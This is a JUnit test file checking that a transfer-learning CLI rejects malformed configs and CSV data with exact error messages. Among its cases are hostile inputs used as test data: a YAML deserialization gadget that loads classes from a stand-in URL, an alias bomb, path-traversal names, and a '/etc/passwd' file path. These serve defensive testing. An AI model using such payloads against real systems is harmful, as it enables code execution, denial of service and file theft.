package org.transferlab.experiments.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.transferlab.core.data.TaskType;
import org.transferlab.core.loader.LoaderBindings;
import org.transferlab.core.plugin.Plugins;
import org.transferlab.experiments.config.ConfigLoader;
import org.transferlab.transfer.StrategyBindings;

/**
 * The bad-input corpus: every case writes its own files (a config, data files, a cache entry), runs
 * the real command line, and checks the exact error (it names the file, the line or key, and what
 * was expected), the exit code, and that nothing half-written is left behind: no run directory and
 * no temporary file anywhere under the test's directory. The Fashion-MNIST file cases are in
 * {@link IdxBadInputTest}, the cached source models in {@link CacheEntryBadInputTest}.
 */
class BadInputCorpusTest {
    /** A valid study, small enough to run in a second: the config cases each break one thing in it. */
    static final String STUDY = """
            name: corpus
            seeds: 1
            domains:
              src: {loader: synthetic, classes: 3, features: 4, train-size: 60, test-size: 30}
              tgt: {loader: synthetic, classes: 3, features: 4, train-size: 60, test-size: 30, shift: 0.5}
            pairs:
              - {source: src, target: tgt}
            network: {hidden: [4], epochs: 1}
            strategies:
              fine-tuning: {max-epochs: 2}
            budgets:
              per-class: [2]
            """;

    /** Two CSV domains drawn from one file, which the data cases break; the file has 40 data rows. */
    static final String CSV_STUDY = """
            name: corpus-csv
            seeds: 1
            domains:
              north: {loader: csv, file: sites.csv, target: label, features: [x1, x2], filter: site = north}
              south: {loader: csv, file: sites.csv, target: label, features: [x1, x2], filter: site = south}
            pairs: [{source: north, target: south}]
            network: {hidden: [4], epochs: 1}
            strategies: {target-only: {max-epochs: 2}}
            budgets: {per-class: [2]}
            """;

    @TempDir
    Path dir;

    /** Writes a case's files into the test directory. */
    interface Setup {
        void write(Path dir) throws Exception;
    }

    /**
     * @param name     what is wrong, for the test report
     * @param setup    writes study.yaml and whatever data the case needs under data/
     * @param expected the exact error, given the test directory (paths in messages are absolute)
     */
    record Case(String name, Setup setup, Function<Path, String> expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    record Result(int exitCode, String out, String err) {
    }

    /**
     * Runs {@link #STUDY} into {@code dir/run} with an empty source-model cache in {@code dir/cache}, checks that it
     * trained its one source model, and returns its results: the reference the cache-entry tests compare with.
     */
    static List<java.util.Map<String, String>> runWithEmptyCache(Path dir) throws IOException {
        Path config = Files.writeString(dir.resolve("study.yaml"), STUDY);
        Result first = cli("run", config.toString(), "--out", dir.resolve("run").toString(),
                "--data-dir", dir.toString(), "--cache-dir", dir.resolve("cache").toString());
        assertEquals(0, first.exitCode(), first.err());
        org.junit.jupiter.api.Assertions.assertTrue(first.out().contains("source models: 1 trained, 0 loaded from the cache"),
                first.out());
        return RunLifecycleTest.results(dir.resolve("run"));
    }

    static Result cli(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = TransferLabCommand.execute(args, new PrintWriter(out, true), new PrintWriter(err, true));
        return new Result(code, out.toString(), err.toString());
    }

    private static Case config(String name, Function<String, String> change, Function<Path, String> expected) {
        return new Case(name, d -> Files.writeString(d.resolve("study.yaml"), change.apply(STUDY)), expected);
    }

    private static String at(Path d, int line) {
        return d.resolve("study.yaml") + ":" + line + ": ";
    }

    static Stream<Case> configs() {
        String knownLoaders = String.join(", ", LoaderBindings.registry(Plugins.discover()).names());
        String knownStrategies = String.join(", ", StrategyBindings.registry(Plugins.discover()).names());
        String regressionStrategies = String.join(", ", StrategyBindings.registry(Plugins.discover(), TaskType.REGRESSION).names());
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            String p = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ", p, p, p, p, p, p, p, p, p)).append("]\n");
        }
        return Stream.of(
                config("a misspelled key", s -> s.replace("seeds: 1", "sedes: 1"), d -> at(d, 2)
                        + "unknown key 'sedes' (did you mean 'seeds'?); expected one of: name, description, seed, seeds, "
                        + "data-dir, overfit-gap, overfit-ratio, overfit-min-validation, verdict-test, holm-family, forecast, selection, domains, "
                        + "models, "
                        + "pairs, network, strategies, budgets"),
                config("a misspelled strategy parameter", s -> s.replace("{max-epochs: 2}", "{max-epoch: 2}"), d -> at(d, 10)
                        + "unknown key 'strategies.fine-tuning.max-epoch' (did you mean 'max-epochs'?); expected one of: "
                        + "learning-rate, max-epochs, patience, batch-size, top-layers"),
                config("a wrong type", s -> s.replace("seeds: 1", "seeds: one"),
                        d -> at(d, 2) + "key 'seeds' must be an integer, got 'one'"),
                config("a list where a number belongs", s -> s.replace("epochs: 1}", "epochs: [1]}"),
                        d -> at(d, 8) + "key 'network.epochs' must be an integer, got a list"),
                config("a duplicate key", s -> s.replace("seeds: 1\n", "seeds: 1\nseeds: 5\n"),
                        d -> at(d, 3) + "key 'seeds' appears twice (first at line 2); keep one"),
                config("a duplicate key in a flow mapping", s -> s.replace("features: 4, train-size: 60, test-size: 30}",
                                "features: 4, train-size: 60, test-size: 30, features: 8}"),
                        d -> at(d, 4) + "key 'domains.src.features' appears twice (first at line 4); keep one"),
                config("a missing required key", s -> s.replace("network: {hidden: [4], epochs: 1}\n", ""),
                        d -> at(d, 1) + "missing required key 'network'"),
                config("an unknown loader", s -> s.replace("src: {loader: synthetic", "src: {loader: synthetik"),
                        d -> at(d, 4) + "key 'domains.src.loader': unknown domain loader 'synthetik'; known domain loaders: "
                                + knownLoaders),
                config("an unknown strategy", s -> s.replace("fine-tuning: {", "fine-tunning: {"),
                        d -> at(d, 10) + "key 'strategies.fine-tunning': unknown strategy 'fine-tunning'; known classification "
                                + "strategies: " + knownStrategies),
                config("a strategy that does not fit the task: clustering on a regression domain", s -> s
                                .replace("test-size: 30}", "test-size: 30, task: regression}")
                                .replace("shift: 0.5}", "shift: 0.5, task: regression}")
                                .replace("fine-tuning: {max-epochs: 2}", "warm-start-kmeans: {}"),
                        d -> at(d, 10) + "key 'strategies.warm-start-kmeans': strategy 'warm-start-kmeans' does not apply to "
                                + "regression domains (it fits clustering domains); regression strategies: " + regressionStrategies),
                config("a budget larger than the data", s -> s.replace("per-class: [2]", "per-class: [2, 50]"),
                        d -> d.resolve("study.yaml") + ": key 'budgets.per-class': budget 50/class is larger than the "
                                + "20 training examples of class 'class-0' in domain 'tgt'"),
                config("a negative budget", s -> s.replace("per-class: [2]", "per-class: [-2]"),
                        d -> at(d, 12) + "'budgets': budgets cannot be negative, got -2"),
                config("an unknown verdict test", s -> s.replace("seeds: 1\n", "seeds: 1\nverdict-test: welch\n"),
                        d -> at(d, 3) + "key 'verdict-test' must be one of t, wilcoxon, permutation, got 'welch'"),
                config("an overfit ratio below 1", s -> s.replace("seeds: 1\n", "seeds: 1\noverfit-ratio: 0.5\n"),
                        d -> at(d, 3) + "'(top level)': overfit-ratio must be a finite number ≥ 1, got 0.5"),
                config("zero seeds", s -> s.replace("seeds: 1", "seeds: 0"),
                        d -> at(d, 2) + "'(top level)': seeds must be at least 1, got 0"),
                config("a negative seed count", s -> s.replace("seeds: 1", "seeds: -3"),
                        d -> at(d, 2) + "'(top level)': seeds must be at least 1, got -3"),
                config("an empty budget grid", s -> s.replace("per-class: [2]", "per-class: []"),
                        d -> at(d, 12) + "'budgets': give exactly one of per-class or total, as a non-empty list of budgets"),
                config("no strategies", s -> s.replace("strategies:\n  fine-tuning: {max-epochs: 2}\n", "strategies: {}\n"),
                        d -> at(d, 9) + "'strategies' is empty; name at least one strategy"),
                config("no pairs", s -> s.replace("pairs:\n  - {source: src, target: tgt}\n", "pairs: []\n"),
                        d -> at(d, 6) + "key 'pairs' must be a non-empty list of {source: DOMAIN, target: DOMAIN} ({sources: "
                                + "[DOMAIN, DOMAIN], target: DOMAIN} for several sources, {target: DOMAIN} alone for no-transfer "
                                + "strategies only)"),
                config("a YAML global tag", s -> s.replace("name: corpus",
                                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"),
                        d -> at(d, 1) + "the YAML tag '!!javax.script.ScriptEngineManager' is not allowed; configs hold plain values only"),
                config("an alias bomb", s -> bomb + s,
                        d -> at(d, 1) + "not acceptable YAML: Number of aliases for non-scalar nodes exceeds the specified max=20"),
                config("a huge file", s -> s + "# " + "x".repeat((int) ConfigLoader.MAX_BYTES) + "\n",
                        d -> at(d, 1) + "the file is " + (STUDY.length() + ConfigLoader.MAX_BYTES + 3)
                                + " bytes; a config may have at most " + ConfigLoader.MAX_BYTES),
                config("a name that would leave the runs directory", s -> s.replace("name: corpus", "name: ../../etc"),
                        d -> at(d, 1) + "'(top level)': name '../../etc' must be letters, digits, '.', '_' or '-'"),
                config("a data directory that climbs out of the working directory",
                        s -> s.replace("seeds: 1\n", "seeds: 1\ndata-dir: data/../../secrets\n"),
                        d -> at(d, 3) + "'(top level)': data-dir 'data/../../secrets' leaves the working directory through '..'; "
                                + "write the absolute path, or pass --data-dir on the command line"),
                new Case("a CSV file outside the data directory", d -> {
                    writeSites(d);
                    Files.writeString(d.resolve("study.yaml"), CSV_STUDY.replace("file: sites.csv, target: label, features: [x1, x2], "
                            + "filter: site = north", "file: ../sites.csv, target: label, features: [x1, x2], filter: site = north"));
                }, d -> at(d, 4) + "domain 'north': file: '../sites.csv' is outside the data directory " + d.resolve("data")
                        + "; give a path inside it"),
                new Case("a CSV file given as an absolute path elsewhere", d -> {
                    writeSites(d);
                    Files.writeString(d.resolve("study.yaml"), CSV_STUDY.replace("file: sites.csv, target: label, features: [x1, x2], "
                            + "filter: site = north", "file: /etc/passwd, target: label, features: [x1, x2], filter: site = north"));
                }, d -> at(d, 4) + "domain 'north': file: '/etc/passwd' is outside the data directory " + d.resolve("data")
                        + "; give a path inside it"));
    }

    private static String sites(int rows) {
        StringBuilder csv = new StringBuilder("site,x1,x2,label\n");
        for (int i = 0; i < rows; i++) {
            csv.append(i % 2 == 0 ? "north" : "south").append(',').append(i % 7).append('.').append(i % 3).append(',')
                    .append(-(i % 5)).append(".5,").append("abc".charAt((i / 2) % 3)).append('\n');
        }
        return csv.toString();
    }

    private static void writeSites(Path d) throws IOException {
        Files.createDirectories(d.resolve("data"));
        Files.writeString(d.resolve("data/sites.csv"), sites(40));
    }

    private static Case csv(String name, Function<String, String> breakFile, Function<Path, String> expected) {
        return new Case(name, d -> {
            Files.createDirectories(d.resolve("data"));
            Files.writeString(d.resolve("data/sites.csv"), breakFile.apply(sites(40)));
            Files.writeString(d.resolve("study.yaml"), CSV_STUDY);
        }, expected);
    }

    private static String north(Path d) {
        return at(d, 4) + "domain 'north': " + d.resolve("data/sites.csv") + ": ";
    }

    /** Replaces data line {@code line} (1 = the header) of a CSV text. */
    private static String replaceLine(String csv, int line, String replacement) {
        List<String> lines = new ArrayList<>(csv.lines().toList());
        lines.set(line - 1, replacement);
        return String.join("\n", lines) + "\n";
    }

    static Stream<Case> data() {
        String full = sites(40);
        String cut = String.join("\n", full.lines().limit(31).toList()) + "\n";
        return Stream.of(
                csv("a CSV with a short row", s -> replaceLine(s, 5, "north,1.5"),
                        d -> north(d) + "line 5 has 2 fields, expected 4 (site, x1, x2, label)"),
                csv("a CSV with a non-number in a numeric column", s -> replaceLine(s, 6, "north,1.5,heavy,a"),
                        d -> north(d) + "line 6, column 'x2': 'heavy' is not a number; if 'x2' holds categories, declare it: "
                                + "categorical: [x2]"),
                csv("a CSV with NaN, a missing value by default", s -> replaceLine(s, 3, "north,NaN,1.0,a"),
                        d -> north(d) + "line 3, column 'x1': 'NaN' is a missing value (na-values: [\"\", \"NA\", \"NaN\", "
                                + "\"?\", \"null\"]); set missing: drop to leave such rows out, or missing: impute to fill it "
                                + "from the train partition"),
                csv("a CSV with infinity", s -> replaceLine(s, 3, "north,-Infinity,1.0,a"),
                        d -> north(d) + "line 3, column 'x1': -Infinity is not a finite number"),
                csv("a CSV with a number too large for a float", s -> replaceLine(s, 4, "north,1.0,1e999,a"),
                        d -> north(d) + "line 4, column 'x2': 1e999 is not a finite number"),
                csv("an empty CSV file", s -> "",
                        d -> north(d) + "empty file; expected a header row naming the columns"),
                csv("a CSV with a header and no rows", s -> "site,x1,x2,label\n",
                        d -> north(d) + "no data rows match filter 'site = north'"),
                new Case("a CSV cut at a row boundary, caught by its recorded row count", d -> {
                    Files.createDirectories(d.resolve("data"));
                    Files.writeString(d.resolve("data/sites.csv"), cut);
                    Files.writeString(d.resolve("study.yaml"), CSV_STUDY.replace("filter: site = north}", "filter: site = north, rows: 40}"));
                }, d -> north(d) + "has 30 data rows, but key 'rows' expects 40; the file was cut short or changed since the "
                        + "config was written"),
                new Case("a CSV cut at a row boundary, caught by its recorded checksum", d -> {
                    Files.createDirectories(d.resolve("data"));
                    Files.writeString(d.resolve("data/sites.csv"), cut);
                    Files.writeString(d.resolve("study.yaml"), CSV_STUDY.replace("filter: site = north}",
                            "filter: site = north, sha256: " + sha256(full.getBytes(StandardCharsets.UTF_8)) + "}"));
                }, d -> north(d) + "SHA-256 is " + sha256(cut.getBytes(StandardCharsets.UTF_8)) + ", but key 'sha256' expects "
                        + sha256(full.getBytes(StandardCharsets.UTF_8)) + "; the file was cut short, changed or replaced since "
                        + "the config was written"));
    }

    static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("configs")
    void aBadConfigIsRefusedNamingTheLineAndWritesNothing(Case bad) throws Exception {
        refused(bad, dir);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("data")
    void badDataIsRefusedNamingTheFileAndWritesNothing(Case bad) throws Exception {
        refused(bad, dir);
    }

    /** Runs the case's study in {@code dir} and checks the exact error, the exit code, and that nothing was left behind. */
    static void refused(Case bad, Path dir) throws Exception {
        bad.setup().write(dir);
        Path out = dir.resolve("out");
        Result result = cli("run", dir.resolve("study.yaml").toString(), "--out", out.toString(),
                "--data-dir", dir.resolve("data").toString(), "--no-cache");
        assertEquals(TransferLabCommand.USER_ERROR, result.exitCode(), result.err());
        List<String> lines = result.err().lines().filter(l -> !l.isBlank()).toList();
        assertEquals("error: " + bad.expected().apply(dir), lines.get(lines.size() - 1), result.err());
        assertFalse(result.err().contains("training the source model"), "refused before any training");
        assertFalse(Files.exists(out), "no run directory is left behind");
        assertNoTemporaryFiles(dir);
    }

    static void assertNoTemporaryFiles(Path root) throws IOException {
        try (Stream<Path> files = Files.walk(root)) {
            List<Path> stray = files.filter(p -> {
                String name = p.getFileName().toString();
                return name.contains(".tmp-") || name.endsWith(".part");
            }).toList();
            assertEquals(List.of(), stray, "temporary files left behind");
        }
    }
}
